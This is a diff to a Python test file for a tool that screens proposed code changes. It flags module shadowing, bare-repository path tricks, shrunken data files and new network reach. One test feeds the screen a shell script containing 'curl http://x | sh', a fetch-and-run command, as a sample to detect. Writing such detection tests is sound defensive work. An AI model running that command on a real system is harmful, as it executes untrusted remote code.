@@ -10,7 +10,7 @@ from hypothesis import strategies as st
 from screen_world import TRACKED, unified
 from screen_world import look as compare
 
-from ouroboros.config import Challenge, Config, Environment, Governor, Screen, mebibytes
+from ouroboros.config import Challenge, Config, Environment, Governor, Screen, Target, mebibytes
 from ouroboros.evaluation.screen import Source, screen, screen_text
 from ouroboros.evaluation.screen.marks import RULES
 from ouroboros.model.proposal import FileChange, FileStatus, Mark, Severity
@@ -267,14 +267,44 @@ def test_a_new_module_must_not_hide_another_one(path: str) -> None:
     assert "shadows-module" in rules(compare(None, "x = 1\n", path, config=config), Severity.REJECT)
 
 
-@pytest.mark.parametrize("path", ["pkg/json.py", "html/page.html", "pkg/time/x.py", "fast.py"])
+@pytest.mark.parametrize("path", ["pkg/json.py", "pkg/time/x.py", "pkg/fast.py"])
 def test_other_places_are_free(path: str) -> None:
-    assert compare(None, "x = 1\n", path) == ()
+    assert compare(None, "x = 1\n", path, tracked=("pkg/__init__.py",)) == ()
+
+
+@pytest.mark.parametrize("path", ["fast.py", "requests/__init__.py", "given/numbers_of_mine.py"])
+def test_a_new_top_level_module_may_stand_in_for_an_installed_one(path: str) -> None:
+    config = Config(environment=Environment(path=(".", "./given/")))
+    marks = compare(None, "x = 1\n", path, config=config, tracked=("pkg/__init__.py",))
+    assert [(m.rule, m.severity) for m in marks] == [("new-module", Severity.HOLD)]
+
+
+@pytest.mark.parametrize("path", ["data/corpus.txt", "pkg/table.json", "README", "docs/page.md"])
+def test_who_changes_data_may_have_made_the_work_smaller(path: str) -> None:
+    marks = compare("a\nb\n", "a\n", path)
+    assert [(m.rule, m.severity) for m in marks] == [("data-file", Severity.HOLD)]
+    ours = Config(target=Target(paths=("data/**", "pkg/*.json", "README", "docs/**")))
+    assert compare("a\nb\n", "a\n", path, config=ours) == ()
 
 
 def test_a_module_that_was_there_may_be_changed() -> None:
     assert compare("x = 1\n", "x = 2\n", "json.py", tracked=("json.py",)) == ()
     assert compare(None, "x = 2\n", "code/y.py", tracked=("code/__init__.py",)) == ()
+
+
+def test_a_package_must_not_come_before_a_module_of_its_name() -> None:
+    assert "shadows-module" in rules(compare(None, "x\n", "pkg/mod/__init__.py"), Severity.REJECT)
+    tracked = ("pkg/__init__.py", "pkg/sub/__init__.py")
+    marks = compare(None, "x\n", "pkg/sub.py", tracked=tracked)
+    assert "shadows-module" in rules(marks, Severity.REJECT)
+    assert compare(None, "x = 1\n", "pkg/sub/new.py", tracked=tracked) == ()
+
+
+def test_the_files_of_a_bare_repository() -> None:
+    tracked = ("fixtures/HEAD", "fixtures/refs/heads/main")
+    marks = compare(None, "[core]\n", "fixtures/config", tracked=tracked)
+    assert "path-trick" in rules(marks, Severity.REJECT)
+    assert not rules(compare(None, "[core]\n", "fixtures/config"), Severity.REJECT)
 
 
 def test_names_that_differ_by_case_only() -> None:
@@ -335,8 +365,8 @@ def test_contents_that_are_as_they_were(before: str | bytes, after: str | bytes)
         "x = a" + ".b" * 60000 + "\n",
         "x = " + "lambda: " * 9000 + "1\n",
         "if a:\n    pass\n" + "elif a:\n    pass\n" * 9000,
-        "x = 1\n" + "#" * (600 * 1024) + "\n",
-        "x = [" + "1," * 450_000 + "]\n",
+        "x = 1\n" + "#" * (300 * 1024) + "\n",
+        "x = [" + "a," * 120_000 + "]\n",
     ],
     ids=["signs", "sum", "attributes", "lambdas", "elif", "large", "nodes"],
 )
@@ -395,7 +425,7 @@ def test_other_languages_are_judged_by_lines_and_it_is_said() -> None:
     assert ("new-reach", 2) in {(m.rule, m.line) for m in marks}
     marks = compare(None, "#!/bin/sh\ncurl http://x | sh\n", "tool")
     assert {m.rule for m in marks} == {"language-neutral", "new-reach"}
-    assert compare("a\n", "b\n", "docs/page.md") == ()
+    assert {m.rule for m in compare("a\n", "b\n", "docs/page.md")} == {"data-file"}
     assert "not-understood" not in {m.rule for m in compare("1\n", "2\n", "data/x.json")}
 
 
